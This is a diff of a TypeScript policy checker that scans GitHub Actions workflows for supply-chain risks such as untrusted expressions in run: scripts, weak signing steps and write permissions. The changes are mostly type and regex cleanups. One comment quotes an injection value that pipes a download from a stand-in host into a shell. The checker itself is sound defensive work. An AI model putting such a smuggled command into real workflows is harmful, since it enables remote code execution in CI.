@@ -24,6 +24,9 @@
  */
 import { isMap, isPair, isScalar, isSeq, LineCounter, parseDocument, type Node, type Pair, type YAMLMap } from 'yaml';
 
+/** A YAML scalar's text (strings, numbers, booleans); '' for anything else (a map, a sequence, null, absent). */
+const scalarText = (n: unknown): string => (isScalar(n) && (typeof n.value === 'string' || typeof n.value === 'number' || typeof n.value === 'boolean') ? String(n.value) : '');
+
 export interface PolicyFinding {
   file: string;
   line: number;
@@ -123,7 +126,7 @@ export function checkWorkflowPolicy(text: string, file: string): PolicyFinding[]
 
   // --- jobs ------------------------------------------------------------------------------------
   const jobs = pairOf(root, 'jobs')?.value;
-  const jobPairs: Pair[] = isMap(jobs) ? (jobs.items as Pair[]) : [];
+  const jobPairs: Pair[] = isMap(jobs) ? jobs.items : [];
   const permissionsBlocks: Pair[] = top ? [top] : [];
   for (const jobPair of jobPairs) {
     const job = jobPair.value;
@@ -177,7 +180,7 @@ export function checkWorkflowPolicy(text: string, file: string): PolicyFinding[]
   function checkSigningJob(jobId: string, job: YAMLMap, steps: YAMLMap[]): void {
     const str = (m: YAMLMap, key: string): string | undefined => {
       const v = pairOf(m, key)?.value;
-      return isScalar(v) && v.value !== null ? String(v.value).trim() : undefined;
+      return isScalar<string | number | boolean | null>(v) && v.value !== null ? String(v.value).trim() : undefined;
     };
     const withOf = (m: YAMLMap): YAMLMap | undefined => {
       const w = pairOf(m, 'with')?.value;
@@ -206,7 +209,7 @@ export function checkWorkflowPolicy(text: string, file: string): PolicyFinding[]
 
     for (const st of steps) {
       const w = withOf(st);
-      if (/^actions\/download-artifact@/.test(str(st, 'uses') ?? '') && w && str(w, 'merge-multiple') === 'true') {
+      if ((str(st, 'uses') ?? '').startsWith('actions/download-artifact@') && w && str(w, 'merge-multiple') === 'true') {
         at(start(pairOf(w, 'merge-multiple')!.value), 'signer-reverifies', `job ${jobId} signs and merges downloaded artifacts into one folder: one pair's artifact could overwrite another's; download each into a folder of its own name`);
       }
     }
@@ -228,7 +231,7 @@ export function checkWorkflowPolicy(text: string, file: string): PolicyFinding[]
     for (const st of signing.slice(1)) {
       const uses = str(st, 'uses') ?? '';
       const w = withOf(st);
-      if (/^actions\/attest/.test(uses)) {
+      if (uses.startsWith('actions/attest')) {
         const subjectKeys = ['subject-digest', 'subject-checksums', 'subject-path', 'subject-name'];
         const given = w ? subjectKeys.filter((k) => pairOf(w, k)) : [];
         if (w && pairOf(w, 'subject-path')) at(start(pairOf(w, 'subject-path')!.value), 'signer-reverifies', `job ${jobId} attests files it received (subject-path): take the subjects from the re-hashing step (subject-checksums: \${{ steps.<id>.outputs.subject-checksums }})`);
@@ -242,7 +245,7 @@ export function checkWorkflowPolicy(text: string, file: string): PolicyFinding[]
         if (state !== verifyState) at(start(st), 'signer-reverifies', `job ${jobId} packs ${state}, not the state folder the re-hashing step wrote (${verifyState}): pack only what the signer verified and signed`);
       } else if (isSign(st) && !(w && str(w, 'builds'))) {
         at(start(st), 'signer-reverifies', `job ${jobId} signs with ./actions/sign without builds: every signing step re-verifies what it signs`);
-      } else if (!isSign(st) && !/^\.\/actions\/publish/.test(uses)) {
+      } else if (!isSign(st) && !uses.startsWith('./actions/publish')) {
         at(start(st), 'signer-reverifies', `job ${jobId} signs with ${uses || 'a run: step'}, which does not re-verify what it signs: sign with ./actions/sign (builds:) and ./actions/publish only`);
       }
     }
@@ -256,7 +259,7 @@ export function checkWorkflowPolicy(text: string, file: string): PolicyFinding[]
     if (!isMap(w)) return;
     const value = (key: string): { text: string; node: Node } | undefined => {
       const p = pairOf(w, key);
-      return p && isScalar(p.value) && p.value.value !== null ? { text: String(p.value.value).trim(), node: p.value } : undefined;
+      return p && isScalar(p.value) && p.value.value !== null ? { text: scalarText(p.value).trim(), node: p.value } : undefined;
     };
     const pairs = value('pairs');
     if (pairs) {
@@ -264,7 +267,7 @@ export function checkWorkflowPolicy(text: string, file: string): PolicyFinding[]
       const source = m ? jobPairs.find((p) => isScalar(p.key) && String(p.key.value) === m[1])?.value : undefined;
       const trusted = isMap(source) && !pairOf(source, 'uses') && (() => {
         const st = pairOf(source, 'steps')?.value;
-        return isSeq(st) && st.items.every((x) => !isMap(x) || (!RECIPE_ACTIONS.test(String((pairOf(x, 'uses')?.value as { value?: unknown } | undefined)?.value ?? '').trim()) && !RECIPE_RUN.test(String((pairOf(x, 'run')?.value as { value?: unknown } | undefined)?.value ?? ''))));
+        return isSeq(st) && st.items.every((x) => !isMap(x) || (!RECIPE_ACTIONS.test(scalarText(pairOf(x, 'uses')?.value).trim()) && !RECIPE_RUN.test(scalarText(pairOf(x, 'run')?.value))));
       })();
       if (!trusted) at(start(pairs.node), 'signer-own-pairs', `job ${jobId} signs the pairs ${pairs.text}: take them from a job of this workflow that runs no recipe code (needs.plan.outputs.…) or from this job's own ./actions/plan (batches-file)`);
     }
@@ -272,7 +275,7 @@ export function checkWorkflowPolicy(text: string, file: string): PolicyFinding[]
     if (file) {
       const m = /^\$\{\{\s*steps\.([A-Za-z0-9_-]+)\.outputs\.batches-file\s*\}\}$/.exec(file.text);
       const own = m ? steps.slice(0, steps.indexOf(sign)).find((st) => isScalar(pairOf(st, 'id')?.value) && String((pairOf(st, 'id')!.value as { value: unknown }).value) === m[1]) : undefined;
-      const isPlan = own !== undefined && /^\.\/actions\/plan\/?$/.test(String((pairOf(own, 'uses')?.value as { value?: unknown } | undefined)?.value ?? '').trim());
+      const isPlan = own !== undefined && /^\.\/actions\/plan\/?$/.test(scalarText(pairOf(own, 'uses')?.value).trim());
       if (!isPlan) at(start(file.node), 'signer-own-pairs', `job ${jobId} reads its batch from ${file.text}: pass the batches-file output of an earlier ./actions/plan step of this job, never a file another job made`);
     }
   }
@@ -298,14 +301,14 @@ export function checkWorkflowPolicy(text: string, file: string): PolicyFinding[]
   // `"; curl evil | sh; #` becomes code. Pass such values through `env:` and quote "$VAR".
   function checkRun(node: Node): void {
     if (!isScalar(node) || !Array.isArray(node.range)) return;
-    const [from, , to] = node.range as [number, number, number];
+    const [from, , to] = node.range;
     const raw = text.slice(from, to);
     let found = 0;
     for (const m of raw.matchAll(EXPRESSION)) {
       const expr = (m[1] ?? '').trim();
       if (!UNTRUSTED.test(expr)) continue;
       found++;
-      at(from + (m.index ?? 0), 'no-event-in-run', `\${{ ${expr} }} inside run: is untrusted input pasted into the script: pass it through env: and use "$VAR"`);
+      at(from + m.index, 'no-event-in-run', `\${{ ${expr} }} inside run: is untrusted input pasted into the script: pass it through env: and use "$VAR"`);
     }
     if (found === 0) {
       // Escapes in a quoted scalar can hide an expression from the raw text.
@@ -326,7 +329,7 @@ export function checkWorkflowPolicy(text: string, file: string): PolicyFinding[]
   function writeGrants(pair: Pair): { scope: string; what: string; offset: number }[] {
     const v = pair.value;
     if (v === null || v === undefined) return []; // `permissions:` with nothing is `{}`
-    if (isScalar(v)) {
+    if (isScalar<string | number | boolean | null>(v)) {
       const s = String(v.value ?? '');
       if (s === 'read-all' || s === '' || v.value === null) return [];
       if (s === 'write-all') return [{ scope: '*', what: 'write-all', offset: start(v) }];
@@ -334,7 +337,7 @@ export function checkWorkflowPolicy(text: string, file: string): PolicyFinding[]
     }
     if (!isMap(v)) return [{ scope: '?', what: 'something that is not a map', offset: start(v) }];
     const out: { scope: string; what: string; offset: number }[] = [];
-    for (const p of v.items as Pair[]) {
+    for (const p of v.items) {
       const scope = isScalar(p.key) ? String(p.key.value) : '?';
       const level = isScalar(p.value) ? String(p.value.value) : '';
       if (level === 'read' || level === 'none') continue;
